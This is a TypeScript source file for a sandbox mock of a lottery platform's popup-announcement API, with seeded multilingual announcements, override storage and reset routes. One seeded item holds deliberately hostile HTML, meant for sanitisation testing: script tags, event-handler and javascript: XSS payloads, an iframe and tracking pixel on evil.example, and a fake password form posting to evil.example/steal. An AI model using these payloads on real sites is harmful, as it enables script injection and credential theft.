// Popup announcements (types=PU) of GET /wps/relay/MCSFE_getListAnnouncements, by audience (docs/platform-contract.md,
// "Announcement popup"): B for visitors (no token), A for members, F on a member's first-time login. Seeded for demo
// and vn88 in English, Vietnamese and Brazilian Portuguese (English for other languages), with one deliberately
// hostile item whose HTML the product must neutralise. POST /__sandbox/announcements changes an item (so its content
// hash changes); /__sandbox/reset puts the seed back.
import { z } from "zod";
import type { WpsContext } from "../context";
import type { ControlContext } from "./control";
import type { Route } from "../context";
import { fail, notLoggedIn, ok } from "../http";
import { findMerchant } from "../merchants";
import { authenticate } from "../sessions";
import { invalidRequest, readJson } from "../validation";

type Execution = "A" | "B" | "F";
type Text = { title: string; content: string };
type Seed = {
  id: string;
  execution: Execution;
  forceRead?: boolean;
  promotionType?: string;
  promotionId?: string;
  /** By language; EN is the fallback. */
  text: Record<string, Text>;
};

const LONG_EN = Array.from(
  { length: 6 },
  (_, i) =>
    `<p>Rule ${i + 1}: every ticket bought before the daily draw closes takes part in that draw. Results are published within minutes.</p>`,
).join("");

/** What a hostile back-office entry could carry: each piece must be dropped or made inert by the edge. */
export const HOSTILE_CONTENT = [
  "<p>Important: read the <b>security notice</b> below.</p>",
  "<script>window.__hostileAnnouncementRan = true;</script>",
  '<img src="x" onerror="window.__hostileAnnouncementRan = true">',
  '<img src="https://evil.example/pixel.gif" alt="tracker">',
  '<p><a href="javascript:window.__hostileAnnouncementRan = true">Claim your prize</a></p>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<p style="position:fixed;inset:0;background:red" onclick="window.__hostileAnnouncementRan = true">Tap anywhere</p>',
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Verify</button></form>',
  '<p><a href="https://help.example.com/security">Security help</a></p>',
].join("");

function seedFor(merchant: string): Seed[] {
  const brand = merchant === "vn88" ? "VN88" : "Demo Play";
  return [
    {
      id: `${merchant}-pu-welcome`,
      execution: "B",
      forceRead: true,
      text: {
        EN: { title: `Welcome to ${brand}`, content: `<p>New here? <strong>Create an account</strong> and claim your welcome bonus.</p>` },
        VI: {
          title: `Chào mừng đến với ${brand}`,
          content: "<p>Bạn mới đến? <strong>Tạo tài khoản</strong> và nhận thưởng chào mừng.</p>",
        },
        "PT-BR": {
          title: `Bem-vindo ao ${brand}`,
          content: "<p>Novo por aqui? <strong>Crie uma conta</strong> e receba seu bônus de boas-vindas.</p>",
        },
      },
    },
    {
      id: `${merchant}-pu-rules`,
      execution: "B",
      text: {
        EN: {
          title: "Daily draw rules",
          content: `<h3>How the daily draw works</h3>${LONG_EN}<ul><li>One draw a day</li><li>Prizes paid at once</li></ul>`,
        },
        VI: {
          title: "Luật xổ số hằng ngày",
          content:
            "<h3>Cách hoạt động</h3><p>Mọi vé mua trước khi đóng kỳ quay đều tham gia kỳ quay đó.</p><ul><li>Mỗi ngày một kỳ</li><li>Trả thưởng ngay</li></ul>",
        },
        "PT-BR": {
          title: "Regras do sorteio diário",
          content:
            "<h3>Como funciona</h3><p>Todo bilhete comprado antes do fechamento participa do sorteio.</p><ul><li>Um sorteio por dia</li><li>Prêmios pagos na hora</li></ul>",
        },
      },
    },
    {
      id: `${merchant}-pu-hostile`,
      execution: "B",
      text: { EN: { title: '<img src=x onerror="window.__hostileAnnouncementRan=true">Security notice', content: HOSTILE_CONTENT } },
    },
    {
      id: `${merchant}-pu-deposit`,
      execution: "A",
      promotionType: "DEPOSIT",
      promotionId: `${merchant.toUpperCase()}-DEP-1`,
      text: {
        EN: { title: "Deposit bonus this week", content: "<p>Deposit this week and get <b>10%</b> extra.</p>" },
        VI: { title: "Thưởng nạp tiền tuần này", content: "<p>Nạp tiền tuần này và nhận thêm <b>10%</b>.</p>" },
        "PT-BR": { title: "Bônus de depósito desta semana", content: "<p>Deposite esta semana e ganhe <b>10%</b> a mais.</p>" },
      },
    },
    {
      id: `${merchant}-pu-maintenance`,
      execution: "A",
      text: {
        EN: { title: "Scheduled maintenance", content: "<p>Payments pause on Sunday from 02:00 to 03:00.</p>" },
        VI: { title: "Bảo trì định kỳ", content: "<p>Thanh toán tạm dừng Chủ nhật từ 02:00 đến 03:00.</p>" },
        "PT-BR": { title: "Manutenção programada", content: "<p>Os pagamentos param no domingo das 02:00 às 03:00.</p>" },
      },
    },
    {
      id: `${merchant}-pu-first-login`,
      execution: "F",
      text: {
        EN: { title: "Your first login", content: "<p>Welcome aboard! Complete your profile to unlock withdrawals.</p>" },
        VI: { title: "Lần đăng nhập đầu tiên", content: "<p>Chào mừng bạn! Hoàn thiện hồ sơ để mở khóa rút tiền.</p>" },
        "PT-BR": { title: "Seu primeiro acesso", content: "<p>Bem-vindo! Complete seu perfil para liberar saques.</p>" },
      },
    },
  ];
}

/** Merchants with popup announcements; others answer an empty list. */
const SEEDED = new Set(["demo", "vn88"]);

const CREATE_TABLE = `CREATE TABLE IF NOT EXISTS announcement_overrides (
  merchant TEXT NOT NULL, id TEXT NOT NULL, title TEXT, content TEXT, PRIMARY KEY (merchant, id))`;

async function overrides(db: D1Database, merchant: string): Promise<Map<string, { title: string | null; content: string | null }>> {
  await db.prepare(CREATE_TABLE).run();
  const { results } = await db
    .prepare("SELECT id, title, content FROM announcement_overrides WHERE merchant = ?")
    .bind(merchant)
    .all<{ id: string; title: string | null; content: string | null }>();
  return new Map(results.map((row) => [row.id, row]));
}

const EXECUTION = /^[ABF](,[ABF]){0,2}$/;

/** GET /wps/relay/MCSFE_getListAnnouncements?types=PU&platform=M&execution=A|B|A,F */
export async function popupAnnouncements(ctx: WpsContext): Promise<Response> {
  const execution = ctx.url.searchParams.get("execution") ?? "B";
  if (!EXECUTION.test(execution)) return invalidRequest("execution: A, B, F or a comma-separated list of them");
  const wanted = new Set(execution.split(",") as Execution[]);
  // Member audiences need a valid token, as on every authorised call.
  if (wanted.has("A") || wanted.has("F")) {
    const session = await authenticate(ctx.env.DB, ctx.merchant.code, ctx.request);
    if (session === null) return notLoggedIn();
  }
  if (!SEEDED.has(ctx.merchant.code)) return ok([]);
  const language = ctx.request.headers.get("Language")?.trim().toUpperCase() ?? "";
  const changed = await overrides(ctx.env.DB, ctx.merchant.code);
  return ok(
    seedFor(ctx.merchant.code)
      .filter((item) => wanted.has(item.execution))
      .map((item) => {
        const text = item.text[language] ?? item.text.EN!;
        const override = changed.get(item.id);
        return {
          id: item.id,
          title: override?.title ?? text.title,
          content: override?.content ?? text.content,
          promotionType: item.promotionType ?? null,
          promotionId: item.promotionId ?? null,
          execution: item.execution,
          forceRead: item.forceRead === true,
          types: "PU",
          platform: "M",
        };
      }),
  );
}

const changeSchema = z
  .object({
    merchant: z.string().min(1),
    id: z.string().min(1).max(64),
    title: z.string().max(500).optional(),
    content: z.string().max(20_000).optional(),
  })
  .strict();

/** POST /__sandbox/announcements {merchant, id, title?, content?}: changes a seeded item until the next reset. */
async function changeAnnouncement(ctx: ControlContext): Promise<Response> {
  const parsed = await readJson(ctx.request, changeSchema);
  if (!parsed.ok) return parsed.response;
  const { merchant, id, title, content } = parsed.data;
  if (findMerchant(merchant) === undefined) return fail("merchant.not.found", `Unknown merchant "${merchant}"`, 400);
  if (!seedFor(merchant).some((item) => item.id === id) || !SEEDED.has(merchant)) return fail("not.found", `No announcement "${id}"`, 400);
  await ctx.env.DB.prepare(CREATE_TABLE).run();
  await ctx.env.DB.prepare(
    `INSERT INTO announcement_overrides (merchant, id, title, content) VALUES (?, ?, ?, ?)
     ON CONFLICT (merchant, id) DO UPDATE SET title = excluded.title, content = excluded.content`,
  )
    .bind(merchant, id, title ?? null, content ?? null)
    .run();
  return ok({ id, title: title ?? null, content: content ?? null });
}

/** Back to the seed texts (for one merchant or all); part of /__sandbox/reset. */
export async function resetAnnouncements(db: D1Database, merchant?: string): Promise<void> {
  await db.prepare(CREATE_TABLE).run();
  if (merchant === undefined) await db.prepare("DELETE FROM announcement_overrides").run();
  else await db.prepare("DELETE FROM announcement_overrides WHERE merchant = ?").bind(merchant).run();
}

export const announcementControlRoutes: Route<ControlContext>[] = [
  { method: "POST", path: "/__sandbox/announcements", handle: changeAnnouncement },
];
